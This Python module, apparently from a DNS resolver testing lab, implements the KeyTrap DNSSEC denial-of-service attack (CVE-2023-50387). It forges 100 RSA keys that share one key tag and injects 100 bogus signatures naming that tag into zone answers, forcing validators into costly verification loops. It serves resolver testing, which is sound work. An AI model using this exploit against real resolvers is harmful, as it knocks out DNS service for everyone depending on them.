"""KeyTrap (CVE-2023-50387; ATTACKS.md row 33): many keys with one tag, many signatures that name it, and none fits.

RFC 4035 s5.3.1 lets a validator try every key that matches a signature, and every signature.  That is their product.
"""

import secrets
from typing import cast

import dns.dnssec
import dns.rdata
import dns.rrset
from dns.dnssectypes import Algorithm
from dns.rdataclass import IN
from dns.rdatatype import RdataType
from dns.rdtypes.ANY.DNSKEY import DNSKEY

from hushwire.lab.authority import TTL, Zone
from hushwire.lab.defects import Defect, Exchange

KEYS = SIGNATURES = 100
TAG = 4711
OCTETS = 256
"""Of each modulus, and of each exponent: so large that one verification costs as much as one signature."""


def lay(zone: Zone) -> Defect:
    """Put the keys into the zone, and answer the defect that puts the signatures into its answers."""
    keys = [colliding_key() for _ in range(KEYS)]
    assert zone.key is not None
    zone.put(dns.rrset.from_rdata_list(zone.origin, TTL, [zone.key.dnskey, *keys]))

    def trap(exchange: Exchange) -> None:
        answer = exchange.reply.answer
        of, honest = answer[0], answer[1][0]
        rows = [
            honest.replace(algorithm=Algorithm.RSASHA256, key_tag=TAG, signature=number()) for _ in range(SIGNATURES)
        ]
        exchange.reply.answer = [of, dns.rrset.from_rdata_list(of.name, of.ttl, rows)]

    return trap


def colliding_key() -> DNSKEY:
    """An RSA key that nobody holds, with the tag that all have (RFC 4034 appendix B; RFC 3110 s2)."""
    rdata = bytearray(ZSK + LONG_EXPONENT + number(0x40) + number())
    # The tag is the sum of 16-bit words, the carries added in: one word, here in the modulus, brings it to any value.
    rdata[FREE : FREE + 2] = bytes(2)
    for _ in range(3):
        key = cast(DNSKEY, dns.rdata.from_wire(IN, RdataType.DNSKEY, bytes(rdata), 0, len(rdata)))
        word = int.from_bytes(rdata[FREE : FREE + 2], "big") + TAG - dns.dnssec.key_id(key)
        rdata[FREE : FREE + 2] = (word % 65535).to_bytes(2, "big")
    return key


def number(first: int = 0xC0) -> bytes:
    """A large odd number; the first octet orders them, for an exponent is below its modulus."""
    octets = bytearray(secrets.token_bytes(OCTETS))
    octets[0] = first
    octets[-1] |= 1
    return bytes(octets)


ZSK = bytes((1, 0, 3, Algorithm.RSASHA256))
LONG_EXPONENT = b"\0" + OCTETS.to_bytes(2, "big")
FREE = 300
